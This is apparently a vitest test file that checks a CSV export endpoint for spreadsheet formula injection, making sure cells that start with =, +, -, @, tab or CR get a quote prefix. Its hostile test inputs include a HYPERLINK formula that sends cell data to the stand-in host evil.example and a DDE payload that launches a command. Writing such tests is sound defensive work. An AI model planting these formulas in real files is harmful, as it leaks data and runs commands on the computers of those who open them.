import { describe, expect, it } from 'vitest';
import { setupApp } from './helper';
import { parseCsv } from './parse-csv';

const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1',
  '-2',
  '@SUM(1+1)',
  '\tx',
  '\rx',
  "=cmd|' /C calc'!A0",
];
const PLAIN_NAMES = ['Lisbon', "'already quoted", 'a=b', 'Hanoi, "old quarter"', ' =leading space'];

describe('CSV export is safe to open in a spreadsheet', async () => {
  const t = await setupApp();
  const exportRows = async (modelName: string) => {
    const res = await t.app.inject({
      method: 'GET',
      url: `/api/appmodels/generate-csv?modelName=${modelName}`,
      headers: t.auth(),
    });
    expect(res.statusCode).toBe(200);
    const [head, ...rows] = parseCsv(res.body);
    return rows.map((cells) => Object.fromEntries(head.map((h, i) => [h, cells[i]])));
  };

  it('should prefix text cells that start with = + - @ tab or CR with a quote, and leave other text and numbers alone', async () => {
    // Raw inserts: the API trims names, and a formula can reach the table by any route (imports, other fields).
    for (const name of [...HOSTILE_NAMES, ...PLAIN_NAMES]) {
      await t.database.raw(
        `insert into destinations (name, description, total_votes, location) values ($1, $1, -2, '{"lat": -33.9, "lng": 18.4}')`,
        [name],
      );
    }
    const rows = await exportRows('Destination');
    const byName = new Map(rows.map((r) => [r.name, r]));
    for (const name of HOSTILE_NAMES) {
      const row = byName.get(`'${name}`);
      expect(row, `${JSON.stringify(name)} exported as '${JSON.stringify(name)}`).toBeDefined();
      expect(row?.description).toBe(`'${name}`);
      // A number stays a number: the guard is for text cells only.
      expect(row?.totalVotes).toBe('-2');
      expect(JSON.parse(row?.location ?? 'null')).toEqual({ lat: -33.9, lng: 18.4 });
    }
    for (const name of PLAIN_NAMES) expect(byName.get(name)?.description, JSON.stringify(name)).toBe(name);
    expect(rows).toHaveLength(HOSTILE_NAMES.length + PLAIN_NAMES.length);
    // No exported cell is a formula to a spreadsheet.
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        if (column !== 'totalVotes' && column !== 'id')
          expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it('should leave text lists and jsonb values starting with their own bracket or quote, never a formula', async () => {
    const { rows } = await t.database.raw(
      `insert into establishments (name, types, location) values ('Bar', array['=1+1', '-x'], '"=2+2"'::jsonb) returning id`,
    );
    const exported = (await exportRows('Establishment')).find((r) => r.id === String(rows[0].id));
    expect(exported?.types).toBe('{=1+1,-x}');
    expect(exported?.location).toBe('"=2+2"');
    for (const cell of Object.values(exported ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
